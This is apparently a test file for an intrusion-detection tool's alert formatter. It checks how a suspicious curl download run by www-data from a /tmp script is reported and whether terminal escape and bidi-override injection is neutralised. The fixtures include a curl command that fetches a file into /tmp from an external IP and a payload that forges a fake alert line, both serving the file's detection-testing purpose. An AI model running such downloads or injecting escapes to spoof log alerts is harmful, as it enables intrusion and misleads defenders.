import { describe, expect, it } from "vitest";
import { formatAlertText, processTree } from "../../lib/alerts/format-text.js";
import { detect, exec, shell } from "../helpers/exec-events.js";

async function alertFor(args: string[], parentArgs: string[] = ["/bin/sh", "/tmp/x.sh"]) {
  const { alerts } = await detect([
    shell(),
    exec({ pid: 200, ppid: 100, exe: "/usr/bin/dash", args: parentArgs }),
    exec({ pid: 300, ppid: 200, exe: "/usr/bin/curl", args }),
  ]);
  return alerts[0]!;
}

describe("formatAlertText", () => {
  it("shows who, what, where, the tree and the triage steps", async () => {
    const text = formatAlertText(await alertFor(["curl", "-o", "/tmp/k", "http://192.0.2.1/k"]));
    expect(text.split("\n")[0]).toBe("[HIGH] curl run from /tmp/x.sh on web-01");
    expect(text).toContain("location   /tmp/x.sh  (kind script, depth 1, tier temp)");
    expect(text).toContain("user       www-data (uid 33)");
    expect(text).toContain("T1105 Ingress Tool Transfer");
    expect(text).toContain("1. Check who ran the utility");
  });

  it("draws the tree root first with the matching node and the utility marked", async () => {
    const tree = processTree(await alertFor(["curl", "http://192.0.2.1/"]));
    expect(tree).toEqual([
      "[100] user=www-data /usr/bin/bash  $ bash",
      "└─ [200] user=www-data /usr/bin/dash  $ /bin/sh /tmp/x.sh  script=/tmp/x.sh   ◀ script /tmp/x.sh",
      "   └─ [300] user=www-data /usr/bin/curl  $ curl http://192.0.2.1/   ◀ utility",
    ]);
  });

  it("no command line can inject terminal escapes, new lines or bidi overrides", async () => {
    const hostile = ["curl", "http://192.0.2.1/\u001b[2J\n[CRITICAL] fake alert\u202e", "\u009b1m"];
    const text = formatAlertText(await alertFor(hostile, ["/bin/sh", "/tmp/\u001b]0;pwn\u0007x.sh"]));
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(text.split("\n").filter((l) => l.includes("fake alert"))).toHaveLength(1);
    expect(text).toContain("\\x1b[2J\\n[CRITICAL] fake alert\\u202e");
  });
});
